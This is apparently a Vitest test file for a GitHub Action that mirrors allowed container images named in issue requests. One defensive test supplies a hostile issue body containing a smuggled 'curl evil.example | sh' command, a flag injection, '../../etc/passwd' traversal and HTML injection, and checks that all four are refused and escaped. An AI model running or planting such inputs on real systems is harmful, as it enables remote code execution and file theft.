import { mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import type { GitHubClient } from '../../metadata/github-client'
import { parseImageRef } from '../../oci/image-ref'
import type { ImageResult, SyncReport } from '../../sync/types'
import { parseAllowedSources } from '../allowed-sources'
import type { RequestInputs } from '../context'
import { ISSUE_CALL_TIMEOUT_MS } from '../issue-api'
import { answerRequest, rowsFromReport } from '../issue-request'

const DIGEST = `sha256:${'c'.repeat(64)}`
const TARGET = 'ghcr.io/octo'

const request: RequestInputs = {
  allowedSources: parseAllowedSources(['registry.k8s.io', 'docker.io/library']),
  maxImages: 10,
  mirroredLabel: 'mirrored',
  failedLabel: 'mirror-failed',
  token: 'issue-token'
}

/** A result as the image-list sync reports it: the full source reference, the target under the target namespace. */
function result(source: string, status: ImageResult['status'], fields: Partial<ImageResult> = {}): ImageResult {
  const ref = parseImageRef(source)
  return {
    source,
    target: `${TARGET}/${ref.repository}:${ref.tag}`,
    digest: DIGEST,
    status,
    bytes: 0,
    error: null,
    repository: ref.repository,
    tag: ref.tag!,
    durationMs: 1,
    ...fields
  }
}

function report(images: ImageResult[], fields: Partial<SyncReport> = {}): SyncReport {
  const now = new Date().toISOString()
  const count = (status: ImageResult['status']) => images.filter((i) => i.status === status).length
  return {
    source: '',
    target: TARGET,
    copied: count('copied'),
    skipped: count('skipped'),
    failed: count('failed'),
    images,
    collisions: [],
    remaining: 0,
    startedAt: now,
    finishedAt: now,
    bytes: 0,
    dryRun: false,
    engine: 'registry',
    ...fields
  }
}

/**
 * A client recording the issue calls, answering each as GitHub does (or with `failWith`); the call
 * named `stall` gets no answer until its request's signal aborts (`stalled` resolves once it is sent).
 */
function fakeGitHub(failWith?: { status: number; message: string }, stall?: string) {
  const calls: Array<[string, Record<string, unknown>]> = []
  let sent: () => void = () => undefined
  const stalled = new Promise<void>((resolve) => (sent = resolve))
  const call = (name: string) => async (params: Record<string, unknown>) => {
    calls.push([name, params])
    if (failWith) throw Object.assign(new Error(failWith.message), { status: failWith.status })
    if (name === stall) {
      const { signal } = params.request as { signal: AbortSignal }
      sent()
      await new Promise((_, reject) => signal.addEventListener('abort', () => reject(signal.reason as Error)))
    }
    return { data: {} }
  }
  const client = { rest: { issues: { createComment: call('comment'), addLabels: call('label'), removeLabel: call('unlabel'), update: call('update') } } }
  const tokens: string[] = []
  return {
    calls,
    tokens,
    stalled,
    github: (token: string) => {
      tokens.push(token)
      return client as unknown as GitHubClient
    }
  }
}

let dir: string
let env: NodeJS.ProcessEnv
let summary: string
const saved = { ...process.env }

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'issue-request-'))
  // One file for every test: @actions/core keeps the path it first read.
  summary = join(dir, 'summary.md')
})
beforeEach(async () => {
  vi.spyOn(process.stdout, 'write').mockImplementation(() => true)
  process.env.GITHUB_STEP_SUMMARY = summary
  await writeFile(summary, '')
})
afterEach(() => {
  vi.restoreAllMocks()
  process.env = { ...saved }
})

async function issueEvent(body: string, labels: string[] = []): Promise<void> {
  const path = join(dir, 'event.json')
  await writeFile(path, JSON.stringify({ action: 'opened', issue: { number: 12, state: 'open', body, labels: labels.map((name) => ({ name })) } }))
  env = { GITHUB_EVENT_NAME: 'issues', GITHUB_EVENT_PATH: path, GITHUB_REPOSITORY: 'octo/mirror' }
}

describe('answerRequest', () => {
  it('mirrors the allowed images, comments, labels mirrored and closes when all are on the target', async () => {
    await issueEvent('```\nregistry.k8s.io/pause:3.9\nnginx:1.25\n```', ['mirror-failed'])
    const gh = fakeGitHub()
    const mirror = vi.fn(async (images: string[]) =>
      report([result(images[0], 'copied', { platforms: ['linux/amd64', 'linux/arm64'] }), result(images[1], 'skipped', { reason: 'ledger' })])
    )
    await answerRequest(request, { mirror, github: gh.github }, env)
    expect(mirror).toHaveBeenCalledWith(['registry.k8s.io/pause:3.9', 'docker.io/library/nginx:1.25'])
    expect(gh.tokens).toEqual(['issue-token'])
    expect(gh.calls.map(([name]) => name)).toEqual(['comment', 'label', 'unlabel', 'update'])
    const [, comment] = gh.calls[0]
    expect(comment).toMatchObject({ owner: 'octo', repo: 'mirror', issue_number: 12 })
    expect(comment.body).toContain('✅ **2 images: 1 mirrored, 1 already mirrored**')
    expect(comment.body).toContain('docker pull ghcr.io/octo/pause:3.9')
    expect(gh.calls[1][1]).toMatchObject({ labels: ['mirrored'] })
    expect(gh.calls[2][1]).toMatchObject({ name: 'mirror-failed' })
    expect(gh.calls[3][1]).toMatchObject({ state: 'closed', state_reason: 'completed' })
    expect(await readFile(summary, 'utf8')).toBe(comment.body)
  })

  it('refuses what is not allowed by name, labels mirror-failed and leaves the issue open', async () => {
    await issueEvent('registry.k8s.io/pause:3.9\nquay.io/evil/app:1')
    const gh = fakeGitHub()
    await answerRequest(request, { mirror: async (images) => report([result(images[0], 'copied')]), github: gh.github }, env)
    expect(gh.calls.map(([name]) => name)).toEqual(['comment', 'label'])
    expect(gh.calls[0][1].body).toContain('<code>quay.io/evil/app:1</code>')
    expect(gh.calls[1][1]).toMatchObject({ labels: ['mirror-failed'] })
  })

  it('runs no mirror for a hostile body, and still answers it safely', async () => {
    await issueEvent('nginx:1.25; curl evil.example | sh\n--insecure-policy\n../../etc/passwd\n@octocat <img src=x>')
    const gh = fakeGitHub()
    const mirror = vi.fn()
    await answerRequest(request, { mirror, github: gh.github }, env)
    expect(mirror).not.toHaveBeenCalled()
    expect(gh.calls.map(([name]) => name)).toEqual(['comment', 'label'])
    expect(gh.calls[0][1].body).toContain('⚠️ **4 images: 4 refused**')
    expect(gh.calls[0][1].body).toContain('<code>@octocat &lt;img src=x&gt;</code>')
  })

  it('answers an error of the mirror run (every image failed, with the error), then throws it', async () => {
    await issueEvent('registry.k8s.io/pause:3.9')
    const gh = fakeGitHub()
    const boom = new Error('target refused the credentials')
    await expect(answerRequest(request, { mirror: () => Promise.reject(boom), github: gh.github }, env)).rejects.toBe(boom)
    expect(gh.calls[0][1].body).toContain('The mirror could not run: <code>target refused the credentials</code>')
    expect(gh.calls[1][1]).toMatchObject({ labels: ['mirror-failed'] })
  })

  it('in a dry run comments without label or close', async () => {
    await issueEvent('registry.k8s.io/pause:3.9')
    const gh = fakeGitHub()
    await answerRequest(
      request,
      { mirror: async (images) => report([result(images[0], 'skipped', { reason: 'dry-run' })], { dryRun: true }), github: gh.github },
      env
    )
    expect(gh.calls.map(([name]) => name)).toEqual(['comment'])
    expect(gh.calls[0][1].body).toContain('would be mirrored (dry run)')
  })

  it('fails the step with the permission to grant when GitHub refuses the comment', async () => {
    await issueEvent('registry.k8s.io/pause:3.9')
    const gh = fakeGitHub({ status: 403, message: 'Resource not accessible by integration' })
    await expect(answerRequest(request, { mirror: async (images) => report([result(images[0], 'copied')]), github: gh.github }, env)).rejects.toThrow(
      'Issue #12 not answered: Resource not accessible by integration (the workflow needs permissions: issues: write)'
    )
  })

  it("warns, and keeps the mirror's result, when GitHub does not answer a call of the reply within its bound", async () => {
    await issueEvent('registry.k8s.io/pause:3.9')
    const gh = fakeGitHub(undefined, 'label')
    const out = vi.spyOn(process.stdout, 'write')
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] })
    try {
      const answered = answerRequest(request, { mirror: async (images) => report([result(images[0], 'copied')]), github: gh.github }, env)
      await gh.stalled
      await vi.advanceTimersByTimeAsync(ISSUE_CALL_TIMEOUT_MS)
      await expect(answered).resolves.toBeUndefined()
    } finally {
      vi.useRealTimers()
    }
    expect(gh.calls.map(([name]) => name)).toEqual(['comment', 'label'])
    expect(out.mock.calls.map(([chunk]) => String(chunk)).join('')).toContain(
      "::warning::Issue #12 not answered: GitHub did not answer the label within 30 s; the mirror's result stands (see the job summary)"
    )
  })

  it('answers a workflow_dispatch run in the job summary only', async () => {
    const path = join(dir, 'dispatch.json')
    await writeFile(path, JSON.stringify({ inputs: { images: 'registry.k8s.io/pause:3.9, nginx:1.25' } }))
    const gh = fakeGitHub()
    const mirror = vi.fn(async (images: string[]) => report(images.map((image) => result(image, 'copied'))))
    // GitHub's form gives a one-line input: entries are separated by commas or spaces.
    await answerRequest(request, { mirror, github: gh.github }, { GITHUB_EVENT_NAME: 'workflow_dispatch', GITHUB_EVENT_PATH: path })
    expect(mirror).toHaveBeenCalledWith(['registry.k8s.io/pause:3.9', 'docker.io/library/nginx:1.25'])
    expect(gh.calls).toEqual([])
    expect(await readFile(summary, 'utf8')).toContain('✅ **2 images: 2 mirrored**')
  })

  it('does nothing for an event that asks nothing', async () => {
    const path = join(dir, 'closed.json')
    await writeFile(path, JSON.stringify({ action: 'opened', issue: { number: 3, state: 'closed', body: 'nginx' } }))
    const gh = fakeGitHub()
    const mirror = vi.fn()
    await answerRequest(request, { mirror, github: gh.github }, { GITHUB_EVENT_NAME: 'issues', GITHUB_EVENT_PATH: path, GITHUB_REPOSITORY: 'o/r' })
    expect(mirror).not.toHaveBeenCalled()
    expect(gh.calls).toEqual([])
  })
})

describe('rowsFromReport', () => {
  const refs = ['registry.k8s.io/pause:3.9', 'registry.k8s.io/gone:1'].map((text) => parseImageRef(text))

  it('says what became of each image; an image the run never reached is left when the run stopped early', () => {
    const stopped = report([result('registry.k8s.io/pause:3.9', 'copied', { targetDigest: `sha256:${'d'.repeat(64)}` })], {
      remaining: 1,
      stop: { reason: 'budget', budgetMs: 60_000 }
    })
    expect(rowsFromReport(refs, stopped)).toEqual([
      { source: 'registry.k8s.io/pause:3.9', status: 'mirrored', target: 'ghcr.io/octo/pause:3.9', digest: `sha256:${'d'.repeat(64)}` },
      { source: 'registry.k8s.io/gone:1', status: 'left', why: 'the time budget (1m00s) ran out; edit or reopen the issue to ask again' }
    ])
  })

  it('finds a reference with a tag and a digest by its digest, as the run reports it', () => {
    const pinned = parseImageRef(`registry.k8s.io/pause:3.9@${DIGEST}`)
    const byDigest = report([{ ...result('registry.k8s.io/pause:3.9', 'copied'), source: `registry.k8s.io/pause@${DIGEST}` }])
    expect(rowsFromReport([pinned], byDigest)).toMatchObject([{ source: `registry.k8s.io/pause:3.9@${DIGEST}`, status: 'mirrored' }])
  })

  it('gives the failure of a failed image, cut to 300 characters', () => {
    const failed = report([result('registry.k8s.io/gone:1', 'failed', { error: `manifest unknown ${'x'.repeat(400)}` })])
    const [, row] = rowsFromReport(refs, failed)
    expect(row).toMatchObject({ status: 'failed' })
    expect(row.why).toHaveLength(300)
    expect(rowsFromReport(refs, failed)[0]).toMatchObject({ status: 'failed', why: expect.stringContaining('reported nothing') })
  })
})
